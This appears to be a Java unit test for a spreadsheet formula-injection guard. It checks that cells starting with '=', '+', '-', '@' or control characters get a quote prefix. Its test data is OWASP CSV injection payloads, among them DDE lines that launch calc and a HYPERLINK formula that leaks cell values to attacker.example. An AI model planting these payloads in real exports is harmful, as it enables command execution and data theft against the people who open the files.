package dev.feedbackloop.scoring.internal;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class FormulaGuardTest {

    /** The payloads of OWASP's "CSV Injection" page, and one per dangerous first character. */
    @ParameterizedTest
    @ValueSource(strings = {
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click for further information\")",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+2+3+cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
        "\u0000=1+2",
        "=",
        "-"})
    void dangerousCell_getsAQuotePrefix(String cell) {
        assertThat(FormulaGuard.isDangerous(cell)).isTrue();
        assertThat(FormulaGuard.neutralise(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"slow support", "1+1", "'=1+2", "' already quoted", "a=b", "caf\u00e9", "#1", "%0A-1"})
    void harmlessCell_isUnchanged(String cell) {
        assertThat(FormulaGuard.isDangerous(cell)).isFalse();
        assertThat(FormulaGuard.neutralise(cell)).isSameAs(cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " =1+2", "\n=1+2"})
    void edgeCells_areLeftAlone(String cell) {
        assertThat(FormulaGuard.neutralise(cell)).isEqualTo(cell);
    }
}
